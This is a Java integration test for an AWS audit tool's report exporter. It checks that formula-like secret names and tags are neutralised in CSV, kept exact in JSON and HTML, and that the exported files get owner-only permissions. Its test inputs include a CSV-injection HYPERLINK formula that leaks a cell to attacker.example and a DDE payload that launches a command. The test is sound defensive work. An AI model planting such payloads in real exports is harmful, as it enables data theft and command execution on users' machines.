package dev.coffer.audit;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.coffer.aws.ClientFactory;
import dev.coffer.sandbox.MotoServer;
import dev.coffer.testsupport.Moto;
import dev.coffer.testsupport.WithMoto;
import java.io.IOException;
import java.io.Reader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import software.amazon.awssdk.services.ssm.model.ParameterType;

/**
 * Exports of a report whose names, descriptions and tags look like spreadsheet formulas, read from
 * moto through the report collector: the CSV cells are neutralised, JSON and HTML stay exact, and
 * every file written is its owner's alone.
 */
@WithMoto
class ReportExportIT {

    static final String HYPERLINK = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click\")";
    static final String DDE = "+cmd|' /C calc'!A0";
    /** Names, descriptions and tag text as they are in AWS; each starts a cell that a spreadsheet would run. */
    static final Map<String, String> SECRETS = Map.of("=cmd", HYPERLINK, "@SUM", "@SUM(1)", "+cmd", DDE, "-2+3", "\tx");
    static final String PARAMETER = "-rf";

    private static AuditReport report;

    @BeforeAll
    static void seedAndReport(MotoServer moto) {
        try (ClientFactory writable = Moto.clients(moto, false)) {
            SECRETS.forEach((name, description) -> writable.secretsManager().createSecret(b -> b.name(name).description(description)
                    .secretString("not-exported").tags(t -> t.key("@SUM(1)").value(DDE), t -> t.key("=k").value("\rx"))));
            writable.ssm().putParameter(b -> b.name(PARAMETER).value("v").type(ParameterType.STRING).description("\rx")
                    .tags(t -> t.key("-2+3").value(HYPERLINK)));
        }
        try (ClientFactory audit = Moto.clients(moto, true)) {
            report = ReportCollector.report(List.of(audit), new AuditSettings(List.of("Owner"), 90, 30, List.of(), "", false, false),
                    (m, d, t) -> { }, () -> false);
        }
    }

    private static List<CSVRecord> records(Path file) throws IOException {
        try (Reader in = Files.newBufferedReader(file)) {
            return CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get().parse(in).getRecords();
        }
    }

    private static CSVRecord row(List<CSVRecord> records, String column, String value) {
        return records.stream().filter(r -> r.get(column).equals(value)).findFirst()
                .orElseThrow(() -> new AssertionError("no row with " + column + " " + value));
    }

    /** What OWASP calls a dangerous cell: one a spreadsheet reads as a formula or command. */
    private static boolean startsAFormula(String cell) {
        return !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0;
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAreNeutralised(@TempDir Path dir) throws IOException {
        Path inventory = dir.resolve("report.csv");
        ReportExport.write(report, ReportExport.Format.CSV, inventory);

        List<CSVRecord> items = records(inventory);
        List<CSVRecord> findings = records(dir.resolve("report-findings.csv"));
        assertThat(items).hasSize(5);
        List<String> cells = new ArrayList<>();
        items.forEach(r -> cells.addAll(r.toList()));
        findings.forEach(r -> cells.addAll(r.toList()));
        assertThat(cells).noneMatch(ReportExportIT::startsAFormula);

        SECRETS.forEach((name, description) -> {
            CSVRecord item = row(items, "Name", "'" + name);
            assertThat(item.get("Description")).isEqualTo("'" + description);
            assertThat(item.get("Tags")).isEqualTo("'=k=\rx; @SUM(1)=" + DDE);
            assertThat(row(findings, "Name", "'" + name).get("Finding")).isNotEmpty();
        });
        CSVRecord parameter = row(items, "Name", "'" + PARAMETER);
        assertThat(parameter.get("Description")).isEqualTo("'\rx");
        assertThat(parameter.get("Tags")).isEqualTo("'-2+3=" + HYPERLINK);
        assertThat(row(findings, "Name", "'" + PARAMETER).get("Finding")).isEqualTo("Missing required tags");
        // Cells that start harmlessly are left exactly as they are.
        assertThat(parameter.get("Type")).isEqualTo("String");
        assertThat(parameter.get("Region")).isEqualTo("us-east-1");
    }

    @Test
    void jsonAndHtmlKeepTheTextExactly(@TempDir Path dir) throws IOException {
        Path json = dir.resolve("report.json");
        Path html = dir.resolve("report.html");
        ReportExport.write(report, ReportExport.Format.JSON, json);
        ReportExport.write(report, ReportExport.Format.HTML, html);

        JsonNode inventory = new ObjectMapper().readTree(json.toFile()).path("inventory");
        SECRETS.forEach((name, description) -> {
            JsonNode item = find(inventory, name);
            assertThat(item.path("description").asText()).isEqualTo(description);
            assertThat(item.path("tags").path("@SUM(1)").asText()).isEqualTo(DDE);
            assertThat(item.path("tags").path("=k").asText()).isEqualTo("\rx");
        });
        assertThat(find(inventory, PARAMETER).path("tags").path("-2+3").asText()).isEqualTo(HYPERLINK);

        String page = Files.readString(html);
        assertThat(page).contains("<td>" + HtmlReport.esc(HYPERLINK) + "</td>", "<td>" + HtmlReport.esc(DDE) + "</td>",
                "<td>-2+3</td>", "<td>@SUM</td>").doesNotContain("'=HYPERLINK", "'@SUM", "'-2+3");
    }

    @Test
    void everyReportFileIsTheOwnersAlone(@TempDir Path dir) throws IOException {
        List<Path> written = new ArrayList<>();
        for (ReportExport.Format format : ReportExport.Format.values()) {
            written.addAll(ReportExport.write(report, format, dir.resolve("new folder").resolve("report." + format.extension())));
        }
        assertThat(written).hasSize(4).allSatisfy(file ->
                assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file))).as(file.toString()).isEqualTo("rw-------"));
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(dir.resolve("new folder")))).isEqualTo("rwx------");
        try (var files = Files.list(dir.resolve("new folder"))) {
            assertThat(files.map(p -> p.getFileName().toString())).as("no temporary file is left behind")
                    .containsExactlyInAnyOrder("report.html", "report.csv", "report-findings.csv", "report.json");
        }
    }

    private static JsonNode find(JsonNode inventory, String name) {
        for (JsonNode item : inventory) {
            if (name.equals(item.path("name").asText())) {
                return item;
            }
        }
        throw new AssertionError("not in the inventory: " + name);
    }
}
